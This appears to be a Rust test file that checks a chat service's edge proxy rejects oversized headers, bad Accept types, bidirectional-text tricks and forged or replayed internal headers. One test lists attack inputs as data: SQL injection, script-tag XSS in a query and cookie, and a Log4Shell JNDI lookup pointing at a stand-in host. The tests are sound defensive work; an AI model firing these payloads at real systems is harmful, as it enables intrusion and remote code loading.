//! Heads that are too large, hold an attack, ask for what there is not, or say what only a host may say; and a message that no
//! keyboard writes. How many headers there may be, and how long a head, is not here: Pingora judges it on the edge, Hyper in the
//! test host and in Spin.

use chat::Code;
use chat::internal::{HISTORY, INTERNAL_HEADER, TURNS};
use reqwest::Method;

use crate::fixture::{
    Call, DISCOVERY, FakeOrigin, Front, Kind, MESSAGES, Reply, SHIPPING, message, refused, still_serves,
};

on_every_host! {
    a_long_header_is_refused,
    a_long_target_is_refused,
    an_answer_in_no_form_that_there_is_is_not_acceptable,
    an_attack_is_blocked_wherever_it_stands,
    a_message_that_turns_its_text_round_is_blocked,
    a_forged_internal_header_is_not_passed_on,
    a_stolen_internal_header_opens_nothing_from_outside,
    a_forged_internal_header_changes_nothing_for_who_sends_it,
}

async fn a_long_header_is_refused(kind: Kind) {
    let shop = Front::open(kind).await;
    let request = shop.stranger().request(Method::GET, "/").header("x-long", "a".repeat(9_000));
    refused(&Reply::to(request).await, Code::Blocked);
    still_serves(&shop.stranger()).await;
}

async fn a_long_target_is_refused(kind: Kind) {
    let shop = Front::open(kind).await;
    let reply = shop.stranger().get(&format!("/?q={}", "a".repeat(9_000))).await;
    refused(&reply, Code::HeadersTooLarge);
    still_serves(&shop.stranger()).await;
}

async fn an_answer_in_no_form_that_there_is_is_not_acceptable(kind: Kind) {
    let origin = FakeOrigin::answering(&["never asked"]);
    let shop = Front::with_origin(kind, &origin).await;
    let guest = shop.guest().await;
    let body = serde_json::to_string(&message(DISCOVERY)).expect("a message has a JSON form");
    for accept in ["text/html", "image/*", "application/xml, text/plain;q=0.5"] {
        let request = guest.request(Method::POST, MESSAGES).header("content-type", "application/json");
        let reply = Reply::to(request.header("accept", accept).body(body.clone())).await;
        refused(&reply, Code::NotAcceptable);
    }
    assert!(origin.turns().is_empty());
    still_serves(&shop.stranger()).await;
}

async fn an_attack_is_blocked_wherever_it_stands(kind: Kind) {
    let origin = FakeOrigin::answering(&["never asked"]);
    let shop = Front::with_origin(kind, &origin).await;
    let guest = shop.guest().await;
    for attack in [
        guest.request(Method::GET, "/?q='%20or%201=1--%20"),
        guest.request(Method::GET, "/v1/chat/history?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        guest.request(Method::GET, "/").header("cookie", "theme=<script>alert(1)</script>"),
        guest.request(Method::GET, "/").header("referer", "${jndi:ldap://elsewhere.example/a}"),
    ] {
        refused(&Reply::to(attack).await, Code::Blocked);
    }
    assert!(origin.calls().is_empty());
    still_serves(&shop.stranger()).await;
}

async fn a_message_that_turns_its_text_round_is_blocked(kind: Kind) {
    let origin = FakeOrigin::answering(&["never asked"]);
    let shop = Front::with_origin(kind, &origin).await;
    let question = message("Recommend me something \u{202e}dark, please");
    refused(&shop.guest().await.ask(&question).await, Code::Blocked);
    assert!(origin.turns().is_empty());
    still_serves(&shop.stranger()).await;
}

/// The values of the internal header that the origin got with a call.
fn internal_headers(call: &Call) -> Vec<&str> {
    let named = call.headers.iter().filter(|(name, _)| name == INTERNAL_HEADER);
    named.map(|(_, value)| value.as_str()).collect()
}

async fn a_forged_internal_header_is_not_passed_on(kind: Kind) {
    let origin = FakeOrigin::answering(&["Try Berserk."]);
    let shop = Front::with_origin(kind, &origin).await;
    let guest = shop.guest().await;
    let history = guest.request(Method::GET, "/v1/chat/history").header(INTERNAL_HEADER, "forged");
    assert_eq!(Reply::to(history).await.status, 200);
    let body = serde_json::to_string(&message(DISCOVERY)).expect("a message has a JSON form");
    let turn = guest.request(Method::POST, MESSAGES).header("content-type", "application/json").body(body);
    Reply::to(turn.header(INTERNAL_HEADER, "forged")).await.answer();
    for call in [origin.call(HISTORY, 1).await, origin.call(TURNS, 1).await] {
        assert!(call.claims().sub.starts_with("guest:"));
        let values = internal_headers(&call);
        assert!(values.len() == 1 && values[0] != "forged", "{values:?}");
    }
}

async fn a_stolen_internal_header_opens_nothing_from_outside(kind: Kind) {
    let origin = FakeOrigin::answering(&["Try Berserk."]);
    let shop = Front::with_origin(kind, &origin).await;
    assert_eq!(shop.guest().await.get("/v1/chat/history").await.status, 200);
    let call = origin.call(HISTORY, 1).await;
    let stolen = call.header(INTERNAL_HEADER).expect("the edge signs its calls");
    let request = shop.stranger().request(Method::GET, "/v1/chat/history").header(INTERNAL_HEADER, stolen);
    refused(&Reply::to(request).await, Code::SessionRequired);
    let request = shop.stranger().request(Method::GET, HISTORY).header(INTERNAL_HEADER, stolen);
    refused(&Reply::to(request).await, Code::NotFound);
    assert_eq!(origin.calls().len(), 1);
    still_serves(&shop.stranger()).await;
}

async fn a_forged_internal_header_changes_nothing_for_who_sends_it(kind: Kind) {
    let shop = Front::open(kind).await;
    let guest = shop.guest().await;
    let body = serde_json::to_string(&message(SHIPPING)).expect("a message has a JSON form");
    let request = guest.request(Method::POST, MESSAGES).header("content-type", "application/json").body(body);
    let reply = Reply::to(request.header(INTERNAL_HEADER, "forged")).await;
    // A guest's limit, and no other's.
    assert_eq!((reply.status, reply.header("x-ratelimit-limit"), reply.turns_left()), (200, "10", 9));
}
